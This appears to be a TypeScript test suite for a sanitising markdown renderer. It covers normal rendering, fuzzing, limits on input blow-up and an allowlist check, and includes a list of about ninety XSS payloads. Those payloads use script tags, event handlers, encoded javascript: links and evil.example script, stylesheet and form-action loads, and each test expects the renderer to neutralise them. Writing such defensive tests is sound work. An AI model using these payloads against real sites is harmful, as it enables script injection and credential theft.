import fc from 'fast-check';
import { isOurs } from './allowed';
import { renderMarkdown } from './index';

const REL = 'rel="noopener noreferrer nofollow"';

test.each([
  ['a line\nanother', '<p>a line<br>\nanother</p>\n'],
  ['two\n\nparagraphs', '<p>two</p>\n<p>paragraphs</p>\n'],
  [
    '**strong**, *em*, ~~gone~~, `code`',
    '<p><strong>strong</strong>, <em>em</em>, <s>gone</s>, <code>code</code></p>\n',
  ],
  ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n'],
  ['5. a\n6. b', '<ol start="5">\n<li>a</li>\n<li>b</li>\n</ol>\n'],
  ['> said\n\n---', '<blockquote>\n<p>said</p>\n</blockquote>\n<hr>\n'],
  ['## Heading', '<h2>Heading</h2>\n'],
  ['```js\nif (a < b) "x"\n```', '<pre><code>if (a &lt; b) &quot;x&quot;\n</code></pre>\n'],
  ['[here](https://example.com/a?b=1&c=2)', `<p><a href="https://example.com/a?b=1&amp;c=2" ${REL}>here</a></p>\n`],
  ['see https://example.com.', `<p>see <a href="https://example.com" ${REL}>https://example.com</a>.</p>\n`],
  ['to nia@example.com', `<p>to <a href="mailto:nia@example.com" ${REL}>nia@example.com</a></p>\n`],
  ['setup.py is no link, nor is 10.0.0.7', '<p>setup.py is no link, nor is 10.0.0.7</p>\n'],
  ['VPN < LAN & "WAN" > all', '<p>VPN &lt; LAN &amp; &quot;WAN&quot; &gt; all</p>\n'],
  ['日本語 и العربية', '<p>日本語 и العربية</p>\n'],
])('%j is shown as it was meant', (markdown, html) => {
  expect(renderMarkdown(markdown)).toBe(html);
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '![pixel](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][y]\n\n[y]: https://evil.example/pixel.png',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=password></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](%6aavascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](<\u0001javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](/api/v1/auth/logout)',
  '[x](../../admin)',
  '[x](#top)',
  '[x](http:evil.example)',
  '[x](https:///evil.example)',
  '[x](blob:https://example.com/1)',
  '[x](intent://evil#Intent;end)',
  '[x](feed:javascript:alert(1))',
  '[x](view-source:https://example.com)',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x](https://a.example/`onmouseover=`alert(1))',
  '[x](https://a.example/><script>alert(1)</script>)',
  '[<script>alert(1)</script>](https://a.example)',
  '[![x](https://evil.example/p.png)](https://a.example)',
  '[a [b](https://b.example) c](https://a.example)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<https://a.example/"onmouseover="alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html onmouseover=alert(1)\n<b>\n```',
  '~~~ "style="background:url(//evil.example)\nx\n~~~',
  '`<img src=x onerror=alert(1)>`',
  '    <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script\\>alert(1)\\</script\\>',
  '# <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  'javascript:alert(1)',
  'www.evil.example',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<\u0000script>alert(1)</script>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '</p></blockquote><script>alert(1)</script>',
  '<a href=https://a.example rel=opener target=_blank>x</a>',
  '<p id="location" name="cookie">x</p>',
];

test('there are enough hostile texts', () => expect(HOSTILE.length).toBeGreaterThan(60));

/** Looks at the tags of the result with other eyes than the code under test: by their names and attributes. */
function tagsOf(html: string): { name: string; attributes: string }[] {
  return [...html.matchAll(/<\/?([^\s>/]*)([^>]*)/g)].map(([, name = '', attributes = '']) => ({ name, attributes }));
}

test.each(HOSTILE)('%j does nothing', markdown => {
  const html = renderMarkdown(markdown);
  for (const { name, attributes } of tagsOf(html)) {
    expect(['p', 'br', 'hr', 'em', 'strong', 's', 'a', 'code', 'pre', 'blockquote', 'h1']).toContain(name);
    if (name === 'a' && attributes)
      expect(attributes).toMatch(
        /^ href="(https:\/\/[ab]\.example[^"]*|https:\/\/example\.com[^"]*|https:\/\/evil[^"]*)" rel="noopener noreferrer nofollow"$/,
      );
    else expect(attributes).toBe('');
  }
  expect(html).not.toMatch(/<[^>]*javascript|src=["']?(?!x)[^&]*>/i);
});

test('what would grow out of all proportion is shown as it was typed', () => {
  const url = `https://example.com/${'a'.repeat(9_000)}`;
  const definitions = `[a]: ${url}\n\n${'[a]'.repeat(3_000)}`;
  for (const text of [
    definitions,
    '*a*'.repeat(6_600),
    '>'.repeat(20_000),
    '- '.repeat(10_000),
    '"'.repeat(20_000),
    '['.repeat(20_000),
  ])
    expect(renderMarkdown(text).length).toBeLessThan(200_100);
  const grown = Array.from({ length: 5_000 }, () => '-\n').join('\n') + '"'.repeat(30_000);
  expect(renderMarkdown(grown)).toMatch(/^<pre>-\n/);
});

test('whatever is typed, the result is made of our elements alone', () => {
  const unit = fc.oneof(
    fc.constantFrom(...'*_~`#>-+.()[]!<>&"\'\\/:= \n\t1a'),
    fc.constantFrom('https://', 'javascript:', '<script>', '</p>', '&#60;', '](', '![', '```', '    ', 'onerror='),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  );
  fc.assert(
    fc.property(fc.string({ unit, maxLength: 200 }), text => {
      expect(isOurs(renderMarkdown(text))).toBe(true);
    }),
    { numRuns: 2_000 },
  );
});

test.each([
  '<p>',
  '</p>',
  '<p></em>',
  '<p>a & b</p>',
  '<p class="x">a</p>',
  '<P>a</P>',
  '<img>',
  '<a href="javascript:x" rel="noopener noreferrer nofollow">a</a>',
  '<a href="https://a.example">a</a>',
  '<a href="https://a.example" rel="noopener noreferrer nofollow" onclick="x">a</a>',
  `<a href="https://a.example" ${REL}><a href="https://b.example" ${REL}>a</a></a>`,
  '<ol start="1" onclick="x"></ol>',
  '<!-- x -->',
  '<br/>',
])('%s would not be taken for ours', html => expect(isOurs(html)).toBe(false));
